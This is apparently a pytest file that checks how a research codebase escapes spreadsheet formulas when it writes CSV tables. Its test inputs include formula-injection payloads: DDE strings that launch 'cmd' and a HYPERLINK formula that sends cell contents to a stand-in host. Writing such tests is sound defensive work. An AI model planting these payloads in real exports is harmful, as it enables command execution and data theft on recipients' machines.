"""Tables that leave hold no formula, and are read as they were meant."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import models
import node
from models.research.cohort.records import CaseFacts, Equipment, Split
from models.research.cohort.table import read_table, write_table
from models.spreadsheet import read, write_mappings, written

FORMULAS = (
    '=HYPERLINK("http://a.example/"&A1,"more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    assert written(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["-0.5", "+1e-3", "Skyra", "3 T", "it's", "'quoted'", "", None, 3, -2.5, "-inf"])
def test_numbers_and_other_texts_are_written_as_they_are(cell: object) -> None:
    assert written(cell) == cell


@pytest.mark.parametrize("text", [*FORMULAS, "Skyra", "-0.5", "'quoted'", "''=1", ""])
def test_what_was_written_is_read_as_it_was(text: str) -> None:
    assert read(str(written(text))) == text


@pytest.mark.parametrize("text", FORMULAS[:4])
def test_neither_heads_nor_cells_of_a_table_begin_as_formulas(text: str) -> None:
    stream = io.StringIO()
    write_mappings(stream, [text, "value"], [{text: text, "value": -0.5}])
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [[f"'{text}", "value"], [f"'{text}", "-0.5"]]


def test_a_cohort_keeps_the_names_that_its_scanners_give_themselves(tmp_path: Path) -> None:
    facts = CaseFacts("C1", "P1", Equipment("=Siemens", "@Skyra", 3.0), Split.TRAIN, 1, True, {"+note": "=1+1"})
    write_table(tmp_path, [facts])
    assert read_table(tmp_path) == ((facts,), ())
    assert not re.search(r"(^|,)[=@]", (tmp_path / "labels.csv").read_text(), re.MULTILINE)


def test_no_table_is_written_otherwise() -> None:
    others = [
        path.as_posix()
        for package in (models, node)
        for path in Path(package.__file__).parent.rglob("*.py")
        if path.name != "spreadsheet.py" and re.search(r"csv\.(writer|DictWriter)|to_csv|openpyxl", path.read_text())
    ]
    assert others == []
